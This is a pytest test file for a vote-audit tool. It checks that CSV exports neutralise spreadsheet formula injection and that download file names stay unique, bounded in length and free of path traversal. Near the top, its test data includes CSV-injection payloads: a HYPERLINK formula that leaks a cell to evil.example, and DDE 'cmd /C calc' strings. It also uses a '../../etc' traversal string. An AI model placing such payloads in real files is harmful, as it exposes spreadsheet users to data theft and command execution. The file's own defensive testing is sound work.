"""Exports: no CSV cell a spreadsheet runs as a formula, and download names that never collide or overflow
(issue 13, defects 11, 14 and the long-name part of 10)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow as pa
import pytest

from voteaudit.ingest import ingest_file
from voteaudit.ingest.mapping import Mapping
from voteaudit.publish import publish, verify
from voteaudit.report.build import write_report
from voteaudit.store import open_store

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]
DANGER = ("=", "+", "-", "@", "\t", "\r")


def _csv(path: Path, region_name: str, cands: list[str], bump: int = 0) -> None:
    head = "region,region_name,table,registered,valid,null," + ",".join('"' + c.replace('"', '""') + '"' for c in cands)
    rows = [f'1,"{region_name.replace(chr(34), 2 * chr(34))}",{t},100,{60 + bump},2,' + ",".join(
        str(v + bump if j == 0 else v) for j, v in enumerate([30, 20, 10][:len(cands)])) for t in ("1", "2")]
    path.write_text("\n".join([head, *rows]) + "\n", encoding="utf-8")


def _mapping(cands: list[str]) -> Mapping:
    return Mapping(units=["region", "table"], unit_names=["region_name", ""], registered="registered",
                   valid="valid", null="null", candidates=cands)


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("formula")
    cands = [FORMULAS[0], FORMULAS[1], "Plain Name"]
    _csv(tmp / "a.csv", FORMULAS[3], cands)
    _csv(tmp / "b.csv", FORMULAS[3], cands, bump=1)
    db = tmp / "f.duckdb"
    with open_store(db) as store:
        ingest_file(store, tmp / "a.csv", _mapping(cands), source=FORMULAS[2], kind="observer")
        ingest_file(store, tmp / "b.csv", _mapping(cands), source="official", kind="official")
    return db


def _cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_no_csv_export_holds_a_formula_cell(formula_db, tmp_path):
    out = tmp_path / "site"
    with open_store(formula_db, read_only=True) as store:
        publish(store, out, report=True)
    csvs = sorted(out.rglob("*.csv"))
    names = {p.relative_to(out).as_posix() for p in csvs}
    assert {"bulk/records.csv", "data/summary-regions.csv"} <= names and len(names) >= 4
    seen = set()
    for p in csvs:
        cells = _cells(p)
        bad = [c for c in cells if c.startswith(DANGER)]
        assert not bad, (p, bad)
        seen |= {c for c in cells if c.startswith("'")}
    # every hostile name is there, neutralised, not dropped: the candidate headers, the source, the place name
    for text in FORMULAS:
        assert "'" + text in seen, text
    assert verify(out).ok
    # the Parquet downloads keep the exact names (no spreadsheet reads them as formulas)
    import pyarrow.parquet as pq

    assert FORMULAS[0] in pq.read_table(out / "bulk/records.parquet").column_names


def test_csv_cell_rule():
    from voteaudit.exports import csv_cell, csv_table

    for text in ("=1+1", "+1", "-x", "@a", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    for value in ("a=1", "'=1", "", "Ñandú", 5, -3, None):
        assert csv_cell(value) == value
    t = csv_table(pa.table({"=h": ["=a", "b", None], "n": [-1, 2, 3]}))
    assert t.column_names == ["'=h", "n"]
    assert t.column(0).to_pylist() == ["'=a", "b", None] and t.column(1).to_pylist() == [-1, 2, 3]


def _two_sources(tmp: Path, names: list[str]) -> Path:
    cands = ["A", "B"]
    db = tmp / "n.duckdb"
    with open_store(db) as store:
        for k, name in enumerate(names):
            _csv(tmp / f"s{k}.csv", "R", cands, bump=k)
            ingest_file(store, tmp / f"s{k}.csv", _mapping(cands), source=name, kind="observer")
    return db


def test_report_downloads_of_similar_names_do_not_collide(tmp_path):
    db = _two_sources(tmp_path, ["x/y", "x?y"])
    with open_store(db, read_only=True) as store:
        write_report(store, tmp_path / "rep", analyse=False)
    data = sorted(p.name for p in (tmp_path / "rep" / "data").glob("*.csv") if p.name != "summary-regions.csv")
    assert len(data) == 2 and data[0] != data[1]
    # each file holds its own source's numbers (source b was bumped by one vote)
    firsts = {int(next(csv.DictReader(open(tmp_path / "rep" / "data" / n, encoding="utf-8")))["A"]) for n in data}
    assert firsts == {30, 31}


def test_a_300_character_source_name_publishes(tmp_path):
    long = "Observadores " * 23 + "x" * 1   # 300 characters
    assert len(long) == 300
    db = _two_sources(tmp_path, [long, long[:-1] + "y"])
    with open_store(db, read_only=True) as store:
        doc = publish(store, tmp_path / "site", report=True)
    assert doc["records"] == 4
    longest = max(len(p.name) for p in (tmp_path / "site").rglob("*"))
    assert longest <= 80
    assert verify(tmp_path / "site", root=doc["root"]).ok
    summary = json.loads((tmp_path / "site" / "summary.json").read_bytes())
    assert {s["name"] for s in summary["sources"]} == {long, long[:-1] + "y"}


def test_safe_names_are_injective_bounded_and_refuse_a_collision():
    import hashlib
    import itertools

    from voteaudit.exports import distinct_names, safe_name
    from voteaudit.model import VoteauditError

    assert safe_name("actas") == "actas"                     # plain names stay readable
    assert safe_name("x/y") != safe_name("x?y") and safe_name("x/y").startswith("x_y-")
    assert safe_name("x_y-" + safe_name("x/y")[-8:]) != safe_name("x/y")   # a name posing as a hashed one
    assert len(safe_name("é" * 300)) <= 49 and len(safe_name("a" * 300)) <= 49
    assert "/" not in safe_name("../../etc") and not safe_name("..").startswith(".")
    names = distinct_names(["Actas", "actas", "qr"])          # equal but for case: both get the hashed form
    assert len({v.lower() for v in names.values()}) == 3 and names["qr"] == "qr"
    # two names with one slug and the same 8-hex hash prefix (found by brute force): refused, not overwritten
    seen: dict[str, str] = {}
    pair = None
    for k in range(1, 14):
        for tail in itertools.product("?/!", repeat=k):
            name = "x" + "".join(tail)
            h = hashlib.sha256(name.encode()).hexdigest()[:8]
            if h in seen:
                pair = (seen[h], name)
                break
            seen[h] = name
        if pair:
            break
    assert pair and safe_name(pair[0]) == safe_name(pair[1])
    with pytest.raises(VoteauditError, match="would share the file name"):
        distinct_names(list(pair))
